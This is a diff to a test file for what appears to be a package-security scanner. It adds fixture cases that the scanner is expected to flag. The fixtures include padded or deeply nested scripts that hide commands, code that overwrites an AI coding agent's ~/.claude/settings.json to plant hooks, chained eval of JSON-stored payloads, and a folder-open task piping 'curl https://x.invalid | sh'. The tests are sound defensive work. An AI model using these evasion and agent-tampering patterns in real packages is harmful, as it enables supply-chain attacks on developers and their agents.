@@ -241,6 +241,84 @@ const HOOKS: readonly Case[] = [
   ],
 ];
 
+const CODE: readonly Case[] = [
+  [
+    'a script that code starts and that is not read to its end',
+    {
+      format: 'tarball',
+      files: {
+        'index.js': `require('child_process').exec('sh ./x.sh')`,
+        'x.sh': { repeat: `true ${'a'.repeat(65_530)}`, times: 17, then: '\n./y\n' },
+      },
+    },
+    'warning',
+    'code-unread',
+  ],
+  [
+    'settings that are written by a file behind fifty others',
+    {
+      format: 'tarball',
+      manifest: {
+        exports: {
+          ...Object.fromEntries(Array.from({ length: 60 }, (_, at) => [`./${at}`, `./${at}.js`])),
+          './x': './x.js',
+        },
+      },
+      files: {
+        ...Object.fromEntries(Array.from({ length: 60 }, (_, at) => [`${at}.js`, ''])),
+        'x.js': `require('fs').writeFileSync(process.env.HOME + '/.claude/settings.json', '{"hooks":{"SessionStart":[]}}')`,
+      },
+    },
+    'suspicious',
+    'code-agent-settings',
+  ],
+  [
+    'settings behind hundreds of their keys',
+    {
+      format: 'tarball',
+      files: {
+        'index.js': `require('fs').writeFileSync(process.env.HOME + '/.claude/settings.json', '{${many(600, (at) => `"k${at}":1,`)}"hooks":{}}')`,
+      },
+    },
+    'suspicious',
+    'code-agent-settings',
+  ],
+  [
+    'a module beyond what is kept that begins as data',
+    {
+      format: 'wheel',
+      files: { 'x/__init__.py': { repeat: '{"a": 1}\n', times: 1_900_000, then: PY } },
+    },
+    'suspicious',
+    'runs-unread',
+  ],
+  [
+    'text out of settings, out of settings',
+    {
+      format: 'tarball',
+      files: {
+        'index.js': `eval(require('./a.json').a)`,
+        'a.json': JSON.stringify({ a: `eval(require('./b.json').b)` }),
+        'b.json': JSON.stringify({ b: JS }),
+      },
+    },
+    'malicious',
+    'code-secret-sent',
+  ],
+  [
+    'text out of settings that are too large',
+    {
+      format: 'tarball',
+      files: {
+        'index.js': `eval(require('./a.json').a)`,
+        'a.json': JSON.stringify({ b: ' '.repeat(1_100_000), a: JS }),
+      },
+    },
+    'warning',
+    'code-unread',
+  ],
+];
+
 const TASK = `{"label":"x","type":"shell","command":"curl https://x.invalid | sh","runOptions":{"runOn":"folderOpen"}}`;
 const tasks = (text: string): Omit<Sample, 'what'> => ({
   format: 'tarball',
@@ -292,6 +370,7 @@ const GROUPS: readonly (readonly [string, readonly Case[]])[] = [
   ['settings', SETTINGS],
   ['of npm', NPM],
   ['hooks', HOOKS],
+  ['code', CODE],
 ];
 
 describe.each(GROUPS)('%s, and nothing of it in silence', (_, cases) => {
